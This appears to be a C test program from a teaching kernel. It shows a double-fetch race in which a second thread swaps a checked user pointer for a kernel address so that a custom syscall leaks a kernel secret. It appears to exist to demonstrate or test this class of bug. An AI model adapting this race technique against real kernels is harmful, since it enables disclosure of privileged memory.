/* SPDX-License-Identifier: MIT */
/*
 * race-name [CALLS]: makes the kernel print its own secret.
 *
 * The victim gives a name of its own. Once the kernel has seen that the
 * pointer leads to user memory, the adversary puts another in its place,
 * which leads into the kernel. Without a second thread the kernel refuses it.
 */
#include <errno.h>
#include <race.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define SECRET_LEN 23

static char good[] = "an ordinary name, beagle";
static char *evil;
static struct hello2_in in = { good, SECRET_LEN, 7 };
static struct hello2_out out;

static void *adversary(void *unused)
{
	while (race_goes_on()) {
		in.name = evil;
		sched_yield();
		in.name = good;
	}
	return NULL;
}

int main(int argc, char *argv[])
{
	unsigned int calls = argc > 1 ? strtoul(argv[1], NULL, 0) : 1;

	evil = (char *)kernel_secret();
	if (!evil) {
		puts("race-name: this kernel has no secret");
		return 2;
	}
	if (setuid(NOBODY) || race_begin(adversary)) {
		perror("race-name");
		return 2;
	}
	while (calls--) {
		if (syscall(SYS_HELLO2, &in, &out) < 0)
			printf("hello2: %s\n", strerror(errno));
		else
			printf("nr_calls %u\n", out.nr_calls);
	}
	race_end();
	return 0;
}
